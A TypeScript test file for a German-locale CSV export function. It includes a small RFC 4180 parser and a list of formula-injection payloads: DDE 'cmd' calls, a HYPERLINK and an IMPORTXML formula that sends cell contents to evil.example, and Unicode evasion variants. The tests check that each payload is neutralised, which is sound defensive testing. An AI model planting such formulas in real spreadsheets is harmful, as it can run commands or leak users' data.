import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvOf } from './csv.ts'

/** A parser by RFC 4180, written independently of the writer. */
function parse(text: string): string[][] {
  expect(text.startsWith('\ufeff')).toBe(true)
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  for (let at = 1; at < text.length; at += 1) {
    const sign = text[at] as string
    if (isQuoted && sign === '"' && text[at + 1] === '"') {
      cell += '"'
      at += 1
    } else if (sign === '"') isQuoted = !isQuoted
    else if (!isQuoted && sign === ';') {
      rows.at(-1)?.push(cell)
      cell = ''
    } else if (!isQuoted && sign === '\r' && text[at + 1] === '\n') {
      rows.at(-1)?.push(cell)
      rows.push([])
      cell = ''
      at += 1
    } else cell += sign
  }
  expect([isQuoted, cell, rows.at(-1)]).toEqual([false, '', []])
  return rows.slice(0, -1)
}

const payloads = [
  '=1+1',
  '=HYPERLINK("http://evil.example";"Klick")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example?v="; A1); "//a")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\tSumme',
  '\rSumme',
  '\nSumme',
  ' =1+1',
  '\u00a0=1+1',
  '"=1+1"',
  ';=1+1',
  'harmlos;=1+1',
  'harmlos\r\n=1+1',
  'x"\r\n";=1+1',
  '\u200b=1+1',
  '\u0001=1+1',
  '\u202e\u00ad\u2060=1+1',
  '＝1+1',
  '＠SUM(1)',
]

describe('a table for spreadsheets', () => {
  it('starts with a byte order mark and ends every line with CRLF', () => {
    expect(
      csvOf([
        ['Zähler', 'Stand'],
        ['1EMH', 12345.5],
      ]),
    ).toBe('\ufeffZähler;Stand\r\n1EMH;12345,5\r\n')
  })

  it('writes numbers with a decimal comma and no other separator', () => {
    expect(csvOf([[0, 0.125, 1234567, -3.5]])).toBe('\ufeff0;0,125;1234567;-3,5\r\n')
    expect(csvOf([[{ cent: 0 }, { cent: 9840 }, { cent: -123456789 }]])).toBe('\ufeff0,00;98,40;-1234567,89\r\n')
  })

  it('quotes characters that would end a cell or a line', () => {
    expect(csvOf([['a;b', 'a"b', 'a\r\nb', 'a,b', '']])).toBe('\ufeff"a;b";"a""b";"a\r\nb";a,b;\r\n')
  })

  it.each(payloads)('does not let %j become a formula or leave its cell', (payload) => {
    const [row] = parse(csvOf([[payload, 'daneben']]))
    expect(row).toHaveLength(2)
    expect(row?.[1]).toBe('daneben')
    expect(row?.[0]).not.toMatch(/^\s*[=+\-@＝＠]|^[\t\r\n]/)
    expect(row?.[0]?.replace(/^'/, '')).toBe(payload)
  })

  it('keeps every text, with at most an apostrophe before it', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1 }), { minLength: 1 }), (rows) => {
        const back = parse(csvOf(rows))
        expect(back.map((row) => row.length)).toEqual(rows.map((row) => row.length))
        for (const [at, row] of rows.entries()) {
          for (const [index, cell] of row.entries()) expect([cell, `'${cell}`]).toContain(back[at]?.[index])
        }
      }),
    )
  })
})
